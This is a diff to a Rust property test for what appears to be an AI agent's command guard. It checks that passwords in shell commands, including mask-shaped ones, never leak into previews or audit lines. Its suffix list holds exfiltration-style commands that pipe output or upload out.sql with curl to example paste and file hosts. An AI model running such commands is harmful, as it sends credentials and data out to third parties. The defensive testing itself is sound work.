@@ -5,8 +5,9 @@
 //! random credential in the marked place, alone or in a pipeline into an upload, under policies
 //! where the secrets rule redacts, only warns, or is off (the network rule's approval prompt then
 //! quotes the command). Values avoid the separators some syntaxes give meaning to (`@`, `/`, `%`,
-//! `,`, `:`), so the marked value is the whole credential the tool reads, and start without `x`
-//! (`xxXX00…` is the documented mask veto, a redacted value as agents write it).
+//! `,`, `:`), so the marked value is the whole credential the tool reads. Some are shaped like a
+//! mask or a placeholder (`xxxx…`, `****…`, `…redacted…`): on a command line the tool still reads
+//! them as its password, so they are credentials there like any other value.
 
 use std::sync::OnceLock;
 
@@ -46,21 +47,29 @@ fn templates() -> &'static [Vec<String>] {
     })
 }
 
+/// Mask and placeholder shapes around a value (the secrets rule's vetoes elsewhere): shell-literal
+/// in every template (no quotes, blanks, redirections or separators).
+const MASKS: &[&str] =
+    &["", "", "xxxx", "XXXX", "****", "...", "…", "redacted", "REDACTED", "example", "your", "dummy", "changeme", "placeholder", "«", "»", "***"];
+
 const PREFIXES: &[&str] = &["", "cd /srv/app && ", "set -x; ", "sudo "];
 const SUFFIXES: &[&str] =
     &["", " | curl --data-binary @- https://paste.example.net/u", " && curl -T out.sql https://files.example.org/up", " > /tmp/out.log 2>&1"];
 
 proptest! {
-    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]
+    #![proptest_config(ProptestConfig { cases: 1000, ..ProptestConfig::default() })]
 
     #[test]
     fn no_credential_of_a_password_option_reaches_a_message_preview_or_audit_line(
         t in 0..templates().len(),
-        value in "[a-wyz]{2,5}[A-WYZ]{1,3}[0-9]{2,4}[#_.+-][A-Za-z0-9]{2,6}",
+        body in "[a-z]{2,5}[A-Z]{1,3}[0-9]{2,4}[#_.+-][A-Za-z0-9]{2,6}",
+        mask_before in prop::sample::select(MASKS),
+        mask_after in prop::sample::select(MASKS),
         pre in prop::sample::select(PREFIXES),
         post in prop::sample::select(SUFFIXES),
         g in 0..4usize,
     ) {
+        let value = format!("{mask_before}{body}{mask_after}");
         let command = format!("{pre}{}{post}", templates()[t].join(&value));
         let rest = command.replace(&value, "\u{0}");
         let args = serde_json::json!({ "command": command }).to_string();
@@ -71,8 +80,14 @@ proptest! {
         said.extend(v.findings.iter().map(|f| f.preview.clone()));
         said.extend(v.audit.iter().cloned());
         let chars: Vec<char> = value.chars().collect();
+        // Windows that hold part of the random body (a mask alone is public text, which the
+        // guard's own words may contain: "credentials redacted").
+        let (bs, be) = (mask_before.chars().count(), mask_before.chars().count() + body.chars().count());
         for text in &said {
-            for w in chars.windows(6) {
+            for (i, w) in chars.windows(6).enumerate() {
+                if i + 6 <= bs || i >= be {
+                    continue;
+                }
                 let w: String = w.iter().collect();
                 prop_assert!(!text.contains(&w) || rest.contains(&w), "{command}\npolicy {g}: {text}");
             }
